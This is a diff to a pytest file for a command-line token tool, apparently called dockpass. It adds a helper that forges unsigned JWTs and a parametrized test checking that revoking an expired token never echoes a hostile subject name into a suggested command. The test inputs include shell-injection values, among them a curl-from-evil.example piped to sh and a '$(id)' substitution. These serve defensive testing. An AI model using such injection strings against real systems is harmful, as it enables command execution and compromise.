@@ -256,14 +256,26 @@ def test_one_of_nobody(live):
         " s: by its own word one of nobody (anonymous)")
 
 
-def test_one_that_has_ended(live):
+def unsigned(**claims):
+    """Whoever pastes one has not made it."""
     def part(**claims):
         return base64.urlsafe_b64encode(
             json.dumps(claims).encode()).decode().rstrip("=")
-    text = f"{part(alg='ES256')}.{part(sub=chr(10) + 'eve', exp=5)}.c2ln"
-    status, message = live.refused("token", "revoke", "--stdin", stdin=text)
-    assert status == 1
-    assert "has ended by itself: by its own word one of '?eve'" in message
+    return f"{part(alg='ES256')}.{part(**claims)}.c2ln"
+
+
+@pytest.mark.parametrize("subject, told", [
+    ("eve", "'eve'; dockpass token list eve has what it may come from"),
+    ("x'; curl evil.example|sh; echo 'y", "a name that no user can have"),
+    ("$(id)", "a name that no user can have"),
+    ("--user", "a name that no user can have"),
+    ("\neve", "a name that no user can have")])
+def test_one_that_has_ended(live, subject, told):
+    """A command that is offered has nothing in it that does more."""
+    assert live.refused("token", "revoke", "--stdin",
+                        stdin=unsigned(sub=subject, exp=5)) == (
+        1, "dockpass: a JWT, as registries get it, cannot be revoked and has "
+        f"ended by itself: by its own word one of {told}")
 
 
 def test_beside_its_token(live, made):
